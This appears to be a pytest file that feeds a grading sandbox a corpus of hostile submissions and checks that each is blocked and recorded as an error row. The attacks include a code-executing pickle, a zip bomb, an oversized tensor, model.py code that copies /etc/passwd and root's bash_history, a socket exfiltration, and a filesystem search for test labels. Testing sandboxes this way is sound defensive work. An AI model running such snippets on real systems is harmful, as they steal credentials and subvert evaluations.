"""The hostile corpus through a real `grader batch`: each attack is one gradebook row with a clear
reason, the attack did nothing on the host, and the honest submission beside them is graded."""

from __future__ import annotations

import csv
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import make_image_tree
from tests.fixtures.make_submissions import small_net, write_form, write_hostile_pickle
from tests.hostile.payloads import terabyte_tensor, zip_bomb

pytestmark = pytest.mark.slow  # grades the whole hostile corpus as one class: run with make test-all

GRADER = [sys.executable, "-m", "grader"]


def _model_py_attack(folder: Path, attack: str) -> None:
    """A state_dict + model.py submission whose model.py runs ``attack`` at import."""
    write_form("state-dict", folder)
    (folder / "model.py").write_text(attack + "\n" + (folder / "model.py").read_text())


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    root = tmp_path_factory.mktemp("corpus")
    root.chmod(0o755)  # the sandbox's uid must be able to reach what it is shown
    host = root / "host"
    host.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    port = listener.getsockname()[1]

    subs = root / "subs"
    subs.mkdir()
    write_form("pickled-module", subs / "a_honest", small_net(seed=1))
    write_hostile_pickle(subs / "b_os_system.pth", host / "pickle-ran")
    zip_bomb(subs / "c_zip_bomb.pth")
    terabyte_tensor(subs / "d_terabyte.pth")
    _model_py_attack(subs / "e_steal", f"""
import os, shutil
for secret in ("/etc/passwd", os.path.expanduser("~root/.bash_history")):
    try:
        shutil.copy(secret, {str(host / "stolen")!r})
    except OSError:
        pass
""")
    _model_py_attack(subs / "f_socket", f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"labels please")
except OSError:
    pass
""")
    _model_py_attack(subs / "g_exit", "import os\nos._exit(3)")
    _model_py_attack(subs / "h_labels", f"""
import os

hits = [os.path.join(d, f) for d, _, fs in os.walk("/") for f in fs if "cifar" in f.lower()]
open({str(host / "found")!r}, "w").write("\\n".join(hits))
""")
    _model_py_attack(subs / "i_spin", "while True:\n    pass")
    data = make_image_tree(root / "data", {"train": 1, "test": 4})
    rubric = root / "rubric.toml"
    rubric.write_text('[limits]\nwall_seconds = 20\nmemory_mb = 2048\n\n'
                      '[[check]]\nname = "accuracy"\nmetric = "accuracy"\ncondition = "x >= 0"\n')
    out = root / "out"
    done = subprocess.run(
        [*GRADER, "batch", str(subs), "--out", str(out), "--jobs", "2", "--data", str(data),
         "--partial", "--rubric", str(rubric), "--no-pdf"],
        capture_output=True, text=True, timeout=600,
    )
    connections = []
    try:
        while True:
            connections.append(listener.accept())
    except BlockingIOError:
        pass
    finally:
        listener.close()
    with open(out / "gradebook.csv", newline="", encoding="utf-8-sig") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    return {"done": done, "rows": rows, "host": host, "connections": connections}


@pytest.mark.slow  # a whole grade end to end; run with make test-all
def test_the_batch_finishes_with_a_row_per_submission(corpus):
    assert corpus["done"].returncode in (0, 1), corpus["done"].stderr
    assert sorted(corpus["rows"]) == ["a_honest", "b_os_system", "c_zip_bomb", "d_terabyte", "e_steal",
                                      "f_socket", "g_exit", "h_labels", "i_spin"]
    assert corpus["rows"]["a_honest"]["status"] == "graded"


@pytest.mark.parametrize("student, reason", [
    ("b_os_system", "posix.system"),
    ("c_zip_bomb", "compressed"),
    ("d_terabyte", "claims 1 TiB"),
    ("g_exit", "exit"),
    ("i_spin", "20 s"),
])
def test_each_attack_is_an_error_row_with_its_reason(corpus, student, reason):
    row = corpus["rows"][student]
    assert row["status"] != "graded" and row["score"] == "0"
    assert reason in row["error"], row["error"]


def test_pickle_payload_never_ran(corpus):
    assert not (corpus["host"] / "pickle-ran").exists()


def test_model_py_could_not_steal_or_find_labels(corpus):
    assert not (corpus["host"] / "stolen").exists()
    assert not (corpus["host"] / "found").exists()  # the host folder is not even visible


def test_socket_never_reached_the_host(corpus):
    assert corpus["connections"] == []
